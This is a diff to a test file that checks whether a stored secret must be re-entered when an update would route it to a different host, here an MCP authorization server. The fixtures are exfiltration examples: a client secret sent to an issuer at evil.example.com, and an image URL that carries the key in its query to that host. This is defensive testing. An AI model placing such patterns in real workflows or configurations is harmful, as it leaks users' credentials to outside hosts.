@@ -108,11 +108,6 @@ describe('a secret that an update keeps', () => {
       'evil.example.com',
     ],
     [
-      'an authorization server gets it',
-      [...before, mcp({ auth: { client_secret: '{{ input.key }}', issuer: 'https://evil.example.com' } })],
-      'evil.example.com',
-    ],
-    [
       'the provider loads an image with it',
       [...before, node('n', 'basic-node', { messages: [{ images: ['https://evil.example.com/?{{ input.key }}'] }] })],
       'evil.example.com',
@@ -136,6 +131,14 @@ describe('a secret that an update keeps', () => {
     expect(faultsOf(graph('a.example.com'), graph('a.example.com'))).toEqual([]);
     expect(faultsOf(graph('a.example.com'), graph('evil.example.com'))).toEqual([
       expect.stringContaining('would send it to'),
+    ]);
+  });
+
+  test('must be entered again when the authorization server of an MCP server changes', () => {
+    const graph = (issuer: string) => [start(key()), mcp({ auth: { client_secret: '{{ input.key }}', issuer } })];
+    expect(faultsOf(graph('https://a.example.com'), graph('https://a.example.com/v2'))).toEqual([]);
+    expect(faultsOf(graph('https://a.example.com'), graph('https://evil.example.com'))).toEqual([
+      expect.stringContaining('send it to evil.example.com'),
     ]);
   });
 
